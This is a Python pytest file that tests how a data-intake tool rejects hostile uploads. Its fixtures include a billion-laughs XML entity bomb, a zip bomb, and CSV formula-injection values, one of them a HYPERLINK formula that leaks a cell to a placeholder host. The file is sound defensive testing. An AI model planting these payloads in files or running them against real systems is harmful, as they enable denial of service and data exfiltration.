"""Hostile input: every file is refused with a clear error (data/ byte-identical) or queued as text."""

from __future__ import annotations

import io
import json
import os
import random
import zipfile
from pathlib import Path

import pytest

from helpers import copy_data, snapshot
from intake_fixtures import csv_text, showcase_row, write_google_forms_csv, write_xlsx
from intlhub.cli.main import main
from intlhub.intake.private.store import PrivatePaths, prepare
from intlhub.intake.read.source import read_bytes

BOMB_DTD = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    + '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


@pytest.fixture
def data_path(tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795737600")
    path = copy_data(tmp_path)
    prepare(PrivatePaths(tmp_path / "private"))
    return path


def ingest(capsys, data_path: Path, source: Path, form: str = "showcase") -> tuple[int, str]:
    code = main(["ingest", str(source), "--form", form, "--data", str(data_path)])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out + err


def refused_whole(capsys, data_path: Path, source: Path, expected: str) -> None:
    """The input is refused as a whole, with a clear message, and nothing changes anywhere."""
    before = snapshot(data_path.parent)
    code, output = ingest(capsys, data_path, source)
    after = {
        k: v for k, v in snapshot(data_path.parent).items() if not k.startswith("private/.lock")
    }
    assert code == 1 and output.startswith("Error: ") and expected in output, output
    assert after == {k: v for k, v in before.items() if not k.startswith("private/.lock")}


def replace_member(
    xlsx: Path, name: str, content: bytes, level: int = zipfile.ZIP_DEFLATED
) -> None:
    """Rewrite one part of an XLSX file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(xlsx) as source, zipfile.ZipFile(buffer, "w", level) as target:
        for item in source.infolist():
            target.writestr(item, content if item.filename == name else source.read(item.filename))
        if name not in source.namelist():
            target.writestr(name, content)
    xlsx.write_bytes(buffer.getvalue())


def test_xlsx_entity_bomb_is_refused(data_path, capsys, tmp_path):
    xlsx = write_xlsx(tmp_path / "bomb.xlsx", [showcase_row(1)])
    replace_member(xlsx, "xl/worksheets/sheet1.xml", BOMB_DTD.encode())
    refused_whole(capsys, data_path, xlsx, "entity-expansion bomb")


def test_xlsx_zip_bomb_is_refused_before_expanding(data_path, capsys, tmp_path):
    xlsx = write_xlsx(tmp_path / "zip.xlsx", [showcase_row(1)])
    replace_member(xlsx, "xl/worksheets/sheet1.xml", b" " * 20_000_000)
    assert xlsx.stat().st_size < 200_000
    refused_whole(capsys, data_path, xlsx, "suspicious parts: xl/worksheets/sheet1.xml")


def test_truncated_xlsx_and_json_are_refused(data_path, capsys, tmp_path):
    xlsx = write_xlsx(tmp_path / "cut.xlsx", [showcase_row(1)])
    xlsx.write_bytes(xlsx.read_bytes()[:1500])
    refused_whole(capsys, data_path, xlsx, "not a valid XLSX")
    cut = tmp_path / "cut.json"
    cut.write_text(json.dumps([{"id": "TESTE-0001", "title_pt": "x"}])[:25], encoding="utf-8")
    refused_whole(capsys, data_path, cut, "neither JSON nor NDJSON")


def test_truncated_csv_rejects_the_cut_row_only(data_path, capsys, tmp_path):
    text = csv_text([showcase_row(1), showcase_row(2)])
    cut = tmp_path / "cut.csv"
    cut.write_text(text[: text.rindex("Vinho")], encoding="utf-8")
    code, output = ingest(capsys, data_path, cut)
    assert code == 1 and "accepted 1" in output and "rejected 1" in output
    assert "row 3, field 'status': the value is missing" in output


def test_binary_garbage_and_wrong_encodings_are_refused(data_path, capsys, tmp_path):
    garbage = tmp_path / "garbage.csv"
    generator = random.Random(3)
    garbage.write_bytes(bytes(generator.randrange(256) for _ in range(4096)))
    refused_whole(capsys, data_path, garbage, "binary data")
    utf16 = tmp_path / "utf16.csv"
    utf16.write_bytes(csv_text([showcase_row(1)]).encode("utf-16"))
    refused_whole(capsys, data_path, utf16, "UTF-16")
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(b"PK\x03\x04" + os.urandom(200))
    refused_whole(capsys, data_path, fake, "not a valid XLSX")
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"\n\n")
    refused_whole(capsys, data_path, empty, "it is empty")


@pytest.mark.parametrize("data", [b"\xef", b"\xef\xbb"])
def test_a_cut_byte_order_mark_is_read_as_windows_1252_not_a_traceback(data):
    # Found by the fuzz test: utf-8-sig's incremental decoder accepted a lone b"\xef" that
    # bytes.decode then refused while the rows were read.
    grid = read_bytes("cut.csv", data)
    assert (grid.encoding, [cells for _, cells in grid.rows]) == (
        "cp1252",
        [[data.decode("cp1252")]],
    )


def test_latin1_export_is_read_as_windows_1252(data_path, capsys, tmp_path):
    source = tmp_path / "latin.csv"
    source.write_bytes(
        csv_text(
            [
                showcase_row(
                    1,
                    **{
                        "Título em português": "Promoção",
                        "Despesa elegível (euros)": "400.000,00",
                        "Financiamento da UE (euros)": "340.000,00",
                    },
                )
            ],
            ";",
        ).encode("latin-1")
    )
    code, output = ingest(capsys, data_path, source)
    assert code == 0, output
    queued = next((data_path.parent / "private" / "queue").glob("*.jsonl")).read_text(
        encoding="utf-8"
    )
    assert "Promoção" in queued


def test_a_10_mb_field_is_refused(data_path, capsys, tmp_path):
    big = tmp_path / "big.csv"
    write_google_forms_csv(big, [showcase_row(1, **{"Resumo em português": "x" * 10_000_000})])
    refused_whole(capsys, data_path, big, "larger than field limit")
    as_json = tmp_path / "big.json"
    as_json.write_text(
        json.dumps(
            [
                {
                    "id": "TESTE-0001",
                    "title_pt": "t",
                    "beneficiary_id": "iapmei",
                    "status": "approved",
                    "summary_pt": "y" * 10_000_000,
                    "contact_name": "A",
                    "contact_email": "a@example.org",
                }
            ]
        ),
        encoding="utf-8",
    )
    code, output = ingest(capsys, data_path, as_json)
    assert (
        code == 1
        and "field 'summary_pt': the value has 10,000,000 characters (limit 3,000)" in output
    )


def test_formula_injection_is_kept_as_text_and_defused_in_the_rejects_csv(
    data_path, capsys, tmp_path
):
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"clique")'
    rows = [
        showcase_row(1, **{"Título em português": formula}),
        showcase_row(2, **{"Título em português": "@SUM(1+1)", "Estado": "=1+1"}),
    ]
    source = write_google_forms_csv(tmp_path / "formula.csv", rows)
    code, _ = ingest(capsys, data_path, source)
    assert code == 1
    queued = next((data_path.parent / "private" / "queue").glob("*.jsonl")).read_text(
        encoding="utf-8"
    )
    assert json.loads(queued)["values"]["title_pt"] == formula, (
        "the data keeps the text as submitted"
    )
    rejects_csv = next((data_path.parent / "private" / "rejects").glob("*.csv")).read_text(
        encoding="utf-8-sig"
    )
    assert "'=1+1" in rejects_csv and "'@SUM(1+1)" in rejects_csv
    assert not any(
        cell.startswith(("=", "+", "-", "@"))
        for line in rejects_csv.splitlines()
        for cell in line.split(",")
    )
